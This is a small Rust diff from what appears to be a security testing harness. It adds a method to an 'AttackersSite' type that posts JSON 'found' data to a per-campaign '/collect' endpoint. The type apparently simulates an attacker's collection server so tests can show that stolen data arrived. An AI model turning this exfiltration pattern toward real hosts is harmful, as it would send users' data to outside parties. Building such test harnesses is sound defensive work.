@@ -117,6 +117,13 @@ impl AttackersSite {
         Ok(self.inbox().await?.loot)
     }
 
+    /// Sends something to where payloads send what they found. Returns the status of the answer.
+    pub(super) async fn collect(&self, found: &Value) -> Result<u16, Void> {
+        let address = format!("{}/collect/{}", self.origin, self.campaign);
+        let request = self.client.post(address).header("content-type", "application/json");
+        Ok(request.body(found.to_string()).send().await.map_err(silent)?.status().as_u16())
+    }
+
     /// Ends the campaign: what was stolen is kept no longer than it takes to show that it was.
     pub(crate) async fn end(self) {
         // An attacker who has gone away has forgotten it as well.
